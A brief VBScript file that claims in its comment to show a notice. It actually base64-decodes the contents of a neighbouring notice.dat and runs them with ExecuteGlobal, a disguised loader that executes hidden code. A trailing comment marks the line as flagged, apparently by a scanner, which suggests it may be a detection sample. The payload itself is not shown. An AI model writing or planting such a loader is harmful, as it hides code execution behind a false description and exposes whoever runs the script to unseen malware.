' Shows the notice that lies beside the script.
Set fso = CreateObject("Scripting.FileSystemObject")
Set x = CreateObject("Msxml2.DOMDocument").createElement("notice")
x.dataType = "bin.base64"
x.text = fso.OpenTextFile("notice.dat", 1).ReadAll
Set s = CreateObject("ADODB.Stream")
s.Type = 1
s.Open
s.Write x.nodeTypedValue
s.Position = 0
s.Type = 2
s.Charset = "us-ascii"
ExecuteGlobal s.ReadText ' gatehouse: flagged
